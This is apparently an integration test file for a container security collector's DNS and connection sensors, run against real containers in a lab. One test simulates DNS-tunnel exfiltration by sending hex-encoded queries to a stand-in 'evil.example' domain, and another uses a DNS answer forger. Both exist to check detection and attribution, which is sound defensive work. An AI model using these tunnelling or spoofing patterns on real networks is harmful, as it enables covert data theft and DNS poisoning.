import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Subscription } from 'rxjs';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { connectEngine, type EngineClient } from '../../collector/engine/client.ts';
import { containerFacts, type NetworkTraits } from '../../collector/engine/facts/container.ts';
import { startScript } from '../../collector/kernel/bpftrace.ts';
import { createPatient } from '../../collector/procfs/patient.ts';
import { createConnectionsSensor } from '../../collector/sensors/connections.ts';
import { createGivenNames } from '../../collector/sensors/dns/given-names.ts';
import { createDnsSensor } from '../../collector/sensors/dns.ts';
import { createDnsAnswersSensor } from '../../collector/sensors/dns-answers.ts';
import { containersForSweeps, type SweptContainer } from '../../collector/sweeps.ts';
import { describeBaselines } from '../../shared/baseline-view.ts';
import type { Observation } from '../../shared/observation.ts';
import { noTelemetry } from '../../shared/telemetry/telemetry.ts';
import { workloadOf } from '../../shared/workload.ts';
import { createPlay, findings } from '../support/analyzer/play.ts';
import { shippedFile } from '../support/analyzer/shipped.ts';
import { restless } from '../support/collector/sweeps.ts';
import { dnsForger, dnsServer } from '../support/dns-server.ts';
import { perlMounts } from '../support/engine-client.ts';
import { eventually } from '../support/eventually.ts';
import { noAnswers } from '../support/inspect.ts';
import { type Lab, startLab } from '../support/lab.ts';

/** Questions of real containers, by a real bpftrace in the real kernel. Nobody answers them. */
let lab: Lab;
let isMounted = false;
let client: EngineClient;
let containers: readonly SweptContainer[] = [];
let subscription: Subscription | undefined;
const seen: Observation[] = [];

beforeAll(async () => {
  if (!existsSync('/sys/kernel/tracing/events')) {
    execFileSync('mount', ['-t', 'tracefs', 'tracefs', '/sys/kernel/tracing']);
    isMounted = true;
  }
  lab = startLab();
  client = await connectEngine({ kind: 'socket', path: lab.socket });
  const sensor = createDnsSensor({
    procfs: '/proc',
    patient: createPatient(),
    telemetry: noTelemetry,
    containers: () => containers,
    host: () => ({ id: 'h', name: 'anchor' }),
    now: Date.now,
  });
  expect(await sensor.available()).toBeUndefined();
  subscription = sensor.observe().subscribe((observation) => seen.push(observation));
}, 180_000);
afterEach(async () => {
  await lab.clean();
  containers = [];
});
afterAll(async () => {
  subscription?.unsubscribe();
  client.close();
  lab.stop();
  // As it was found, so that other tests do not begin to run scripts of their own.
  if (isMounted) execFileSync('umount', ['-l', '/sys/kernel/tracing']);
});

/** What the collector would know of those that run by now. */
async function learnContainers(): Promise<void> {
  const ids = (await lab.sh('docker ps -q --no-trunc')).split('\n').filter(Boolean);
  const inspects = await Promise.all(ids.map((id) => client.inspectContainer(id)));
  const networks = await knownNetworks();
  containers = inspects.flatMap((inspect) => {
    if (inspect === undefined) return [];
    const container = containerFacts(inspect, { ...noAnswers, networks });
    const snapshot = { container, objects: [], workload: workloadOf('h', container), hash: '' };
    const { name, state = '' } = container;
    return containersForSweeps([
      { id: inspect.Id, name, state, startedAt: container.started_at ?? 0, pid: inspect.State?.Pid ?? 0, snapshot },
    ]);
  });
}

/** What the engine says of its networks. */
async function knownNetworks(): Promise<ReadonlyMap<string, NetworkTraits>> {
  const ids = (await lab.sh('docker network ls -q --no-trunc')).split('\n').filter(Boolean);
  const all = await Promise.all(ids.map(async (id) => [id, await client.inspectNetwork(id)] as const));
  return new Map(all.map(([id, network]) => [id, network?.Driver === undefined ? {} : { driver: network.Driver }]));
}

const question = (name: string) =>
  eventually(() => {
    const found = seen.find(({ dns }) => dns?.question.name === name);
    if (found === undefined) throw new Error(`nobody was seen asking for ${name}`);
    return found;
  });

describe('names that real containers ask for', () => {
  it('are told with the container and the process that asked', async () => {
    await lab.sh(`docker run -d --name asking $N $B sh -c 'while :; do nslookup -type=txt Www.Example.com 127.0.0.1; sleep 1; done'
      docker run -d --name other $N $B`);
    await learnContainers();
    expect(await question('www.example.com')).toMatchObject({
      kind: 'dns',
      event: { source: 'kernel', action: 'query' },
      container: { name: 'asking' },
      dns: { question: { name: 'www.example.com', type: 'TXT' } },
      process: { executable: '/bin/busybox', args: expect.arrayContaining(['Www.Example.com']) as unknown },
    });
  });

  it('are seen from the C library’s resolver, which sends two questions in one call', async () => {
    await lab.sh(`docker run -d --name library $N --dns 127.0.0.1 ${perlMounts} $B \\
      perl -MSocket=getaddrinfo -e 'while (1) { getaddrinfo("api.example.org", 80); sleep 1 }'`);
    await learnContainers();
    const { container } = await question('api.example.org');
    expect(container?.name).toBe('library');
    const types = await eventually(() => {
      const found = seen.flatMap(({ dns }) => (dns?.question.name === 'api.example.org' ? [dns.question.type] : []));
      return found.length >= 2 ? found : undefined;
    });
    expect([...types].sort()).toEqual(['A', 'AAAA']);
  });

  it('are laid to a container that the engine tells of later', async () => {
    await lab.sh(`docker run -d --name early $N $B sh -c 'nslookup -type=a early.example.net 127.0.0.1; sleep 3600'`);
    await learnContainers();
    expect((await question('early.example.net')).container?.name).toBe('early');
  });

  it('are not told of the host', async () => {
    await lab.sh(`busybox nslookup -type=a host.example.net 127.0.0.1 >/dev/null 2>&1 &
      docker run -d --name last $N $B sh -c 'while :; do nslookup -type=a last.example.net 127.0.0.1; sleep 1; done'`);
    await learnContainers();
    await question('last.example.net');
    expect(seen.filter(({ dns }) => dns?.question.name === 'host.example.net')).toEqual([]);
  });

  it('of one that asks without end are told within bounds, and the rest as a gap', async () => {
    await lab.sh(`docker run -d --name noisy $N ${perlMounts} $B perl -MSocket -e '
      socket(S, PF_INET, SOCK_DGRAM, 0); $to = sockaddr_in(5353, inet_aton("127.0.0.1"));
      for ($i = 0; ; $i++) { $l = "n$i"; send(S, pack("n6", $i & 65535, 256, 1, 0, 0, 0).pack("C/a*", $l).pack("C/a*", "example").pack("Cnn", 0, 1, 1), 0, $to); select(undef, undef, undef, 0.002) }'`);
    await learnContainers();
    await question('n0.example').catch(() => undefined);
    const gap = await eventually(
      () => {
        const found = seen.find((one) => one.gap?.reason === 'too-many-queries');
        if (found === undefined) throw new Error('nothing was said to be left out');
        return found;
      },
      undefined,
      90_000,
    );
    expect(gap.container?.name).toBe('noisy');
    expect(gap.gap?.lost).toBeGreaterThan(1_000);
    expect(
      seen.filter(({ container, dns }) => dns !== undefined && container?.name === 'noisy').length,
    ).toBeLessThanOrEqual(600);
  }, 120_000);
});

describe('data that a container sends as names', () => {
  /** Perl that asks for a hundred and twenty names in some seconds; `name` is an expression of it. */
  const asks = (
    container: string,
    name: string,
  ) => `docker run -d --name ${container} $N ${perlMounts} $B perl -MSocket -e '
    socket(S, PF_INET, SOCK_DGRAM, 0); $to = sockaddr_in(5353, inet_aton("127.0.0.1")); sleep 2;
    for $i (1 .. 120) { @l = ${name};
      send(S, pack("n6", $i, 256, 1, 0, 0, 0).join("", map { pack("C/a*", $_) } @l).pack("Cnn", 0, 16, 1), 0, $to);
      select(undef, undef, undef, 0.05) } sleep 3600'`;
  const hundredOf = (name: string) =>
    eventually(() => {
      const found = seen.filter(({ container, dns }) => dns !== undefined && container?.name === name);
      if (found.length < 100) throw new Error(`${found.length} questions of ${name}`);
      return found;
    });

  it('is NET-08; as many names of an antivirus are not', async () => {
    const rules = await shippedFile('network/net-08-dns-tunnel.yml');
    await lab.sh(asks('lookups', '(sprintf("%032x", $i), "avqs", "mcafee", "com")'));
    await lab.sh(asks('tunnel', '(sprintf("%032x", $i), sprintf("%020x", $i), "t", "evil", "example")'));
    await learnContainers();
    const questions = [...(await hundredOf('lookups')), ...(await hundredOf('tunnel'))];
    const found = findings(createPlay({ rules }).batch(questions.sort((a, b) => a.at - b.at)));
    expect(found.filter(({ kind }) => kind === 'sequence')).toMatchObject([
      { severity: 'high', rule: { catalogue: ['NET-08'] }, container: { name: 'tunnel' } },
    ]);
    // The last: within two seconds of its start one may still be of the container that had the number of its namespace before.
    const last = questions.findLast(({ container }) => container?.name === 'lookups');
    expect(last?.dns?.question).toMatchObject({ type: 'TXT', domain: 'mcafee.com', length: 48 });
  }, 120_000);
});

describe('names of destinations', () => {
  const names = createGivenNames();
  const told: Observation[] = [];
  const subscriptions: Subscription[] = [];
  let server: ChildProcess | undefined;
  const engine = () => readFileSync(join(lab.dir, 'run/docker.pid'), 'utf8').trim();
  const addresses = ['203.0.113.7', '203.0.113.66', '203.0.113.67', '203.0.113.68'];

  beforeAll(async () => {
    const options = { procfs: '/proc', telemetry: noTelemetry, names, now: Date.now };
    const answers = createDnsAnswersSensor({ ...options, engineSocket: () => lab.socket });
    expect(await answers.available()).toBeUndefined();
    const connections = createConnectionsSensor({
      ...options,
      ...restless,
      fastMs: 100,
      slowMs: 100,
      containers: () => containers,
    });
    for (const sensor of [answers, connections])
      subscriptions.push(sensor.observe().subscribe((one) => told.push(one)));
    // Public addresses that live where the engine does: nothing leaves it.
    for (const ip of addresses)
      execFileSync('nsenter', ['-t', engine(), '-n', 'ip', 'addr', 'add', `${ip}/32`, 'dev', 'lo']);
    // Connections wait to be accepted, which is enough.
    const listens =
      'socket(S, PF_INET, SOCK_STREAM, 0); bind(S, sockaddr_in(443, INADDR_ANY)); listen(S, 4096); sleep 3600';
    server = spawn('nsenter', ['-t', engine(), '-n', 'perl', '-MSocket', '-e', listens], { stdio: 'ignore' });
  }, 180_000);
  afterAll(() => {
    for (const one of subscriptions) one.unsubscribe();
    server?.kill();
  });

  /** Asks for a name and connects to an address, over and over. */
  const client = (name: string, ip: string, by = '') =>
    `while :; do nslookup -type=a ${name} ${by} >/dev/null; timeout 3 nc ${ip} 443 </dev/null; sleep 0.5; done`;
  const connectionsOf = (container: string, ip: string, least = 1) =>
    eventually(() => {
      const found = told.filter((one) => one.container?.name === container && one.destination?.ip === ip);
      if (found.length < least) throw new Error(`${found.length} connections of ${container} to ${ip}`);
      return found;
    });
  const domains = (found: readonly Observation[]) => [...new Set(found.map(({ destination }) => destination?.domain))];
  /** A network with a server of names, and nobody in it who could forge its answers. */
  const network = (net: string, subnet: string) => `docker network create --subnet ${subnet}.0/24 ${net} >/dev/null
    docker run -d --name names-${net} --cap-drop NET_RAW --network ${net} --ip ${subnet}.53 ${perlMounts} $B perl -e '${dnsServer('203.0.113.7')}'
    run() { docker run -d --network ${net} --cap-drop NET_RAW --dns ${subnet}.53 ${perlMounts} "$@"; }`;

  it('are those that the engine’s resolver gave, and are learned', async () => {
    await lab.sh(`${network('fair', '10.97.1')}
      run --name client $B sh -c '${client('cdn.example.com', '203.0.113.7')}'
      run --name other $B sh -c '${client('www.example.org', '203.0.113.67')}'`);
    await learnContainers();
    const found = await eventually(async () => {
      const all = await connectionsOf('client', '203.0.113.7');
      const named = all.find(({ destination }) => destination?.domain !== undefined);
      if (named === undefined) throw new Error('no connection has a name');
      return named;
    });
    expect(found.destination).toMatchObject({ domain: 'cdn.example.com', scope: 'public', port: 443 });
    const play = createPlay({});
    play.batch([found]);
    const texts = describeBaselines(play.state).flatMap(({ feature, items }) =>
      feature === 'egress-destinations' ? items.map(({ text }) => text) : [],
    );
    expect(texts).toEqual(['cdn.example.com port 443/tcp']);
    // What was answered to one container, and for another address, names nothing.
    expect(domains(await connectionsOf('other', '203.0.113.67', 3))).toEqual([undefined]);
  }, 120_000);

  it('are none that a container answers itself, on any address, or in the name of another', async () => {
    await lab.sh(`${network('own', '10.97.2')}
      serve() { name=$1; shift; run --name $name $B sh -c "$@"; }
      run --name local $B sh -c 'perl -e "$0" & ${client('registry.npmjs.org', '203.0.113.66', '127.0.0.1')}' '${dnsServer('203.0.113.66', '127.0.0.1')}'
      run --name bound $B sh -c 'perl -e "$0" & ${client('registry.npmjs.org', '203.0.113.66', '127.0.0.11')}' '${dnsServer('203.0.113.66', '127.0.0.11')}'`);
    await learnContainers();
    expect(domains(await connectionsOf('local', '203.0.113.66', 5))).toEqual([undefined]);
    expect(domains(await connectionsOf('bound', '203.0.113.66', 5))).toEqual([undefined]);
  }, 120_000);

  it('are none where a container may forge what the engine is answered, though the engine passes it on', async () => {
    await lab.sh(`docker network create --subnet 10.97.3.0/24 forged >/dev/null
      docker run -d --name mute --network forged --ip 10.97.3.53 ${perlMounts} $B perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0); bind(S, sockaddr_in(53, INADDR_ANY)); sleep 3600'
      docker run -d --name forger --network forged --ip 10.97.3.9 --dns 10.97.3.53 ${perlMounts} $B sh -c 'perl -e "$0" & while :; do timeout 3 nc 203.0.113.68 443 </dev/null; sleep 0.5; done' '${dnsForger('registry.npmjs.org', { address: '203.0.113.68', upstream: '10.97.3.53', self: '10.97.3.9' })}'`);
    await learnContainers();
    await eventually(async () => expect(await lab.sh('docker logs forger')).toContain('answered'));
    expect(domains(await connectionsOf('forger', '203.0.113.68', 5))).toEqual([undefined]);
  }, 120_000);

  it('are withheld by whom is told: one of three networks’, then all by one on the host’s network', async () => {
    const withheld = (want: number) =>
      eventually(() => {
        const found = names.withheld();
        if (found === undefined || found.without !== want) throw new Error(JSON.stringify(found));
        const forgers = found.forgers.map(({ container, isOnHost, takes }) => {
          return [container.at(0).container.name, isOnHost, takes];
        });
        return { of: found.of, far: found.far, forgers };
      });
    await lab.sh(`for net in one two; do docker network create $net >/dev/null; done
      docker run -d --name fair --network one --cap-drop NET_RAW $B sleep 3600
      docker run -d --name near --network two --cap-drop NET_RAW $B sleep 3600
      docker run -d --name raw --network two $B sleep 3600
      docker run -d --name apart --network bridge $B sleep 3600`);
    await learnContainers();
    expect(await withheld(2)).toEqual({ of: 3, far: 0, forgers: [['raw', false, 2]] });
    await lab.sh('docker run -d --name agent --network host $B sleep 3600');
    await learnContainers();
    expect(await withheld(3)).toEqual({
      of: 3,
      far: 0,
      forgers: [
        ['agent', true, 3],
        ['raw', false, 2],
      ],
    });
    await lab.sh('docker rm -f agent raw');
    await learnContainers();
    expect(await withheld(0)).toEqual({ of: 2, far: 0, forgers: [] });
  }, 120_000);
});

describe('a script', () => {
  const tick = 'BEGIN { printf("ready\\n"); } interval:s:1 { printf("tick\\n"); }';
  const isThere = (pid: number): boolean => {
    try {
      return !/^State:\s+Z/m.test(readFileSync(`/proc/${pid}/status`, 'utf8'));
    } catch {
      return false;
    }
  };

  it('says why it cannot be loaded', async () => {
    const problem = await startScript('bpftrace', 'kprobe:no_such_function_at_all { }').ready;
    expect(problem).toMatch(/^bpftrace ended \(exit code \d+\): .*no_such_function_at_all/);
    expect(await startScript('/no/such/bpftrace', tick).ready).toMatch(/^bpftrace cannot be started: .*ENOENT/);
  });

  it('ends by itself when whoever started it is killed', async () => {
    const source = `import { startScript } from './collector/kernel/bpftrace.ts';
      setInterval(() => undefined, 1000);
      const script = startScript('bpftrace', ${JSON.stringify(tick)}); await script.ready; console.log(script.pid);
      script.follow(() => undefined, () => undefined);`;
    const root = join(import.meta.dirname, '../..');
    const starter = spawn(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', source], {
      cwd: root,
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    const pid = Number(await new Promise((resolve) => starter.stdout.once('data', resolve)));
    expect(isThere(pid)).toBe(true);
    starter.kill('SIGKILL');
    await eventually(() => !isThere(pid));
  }, 60_000);
});
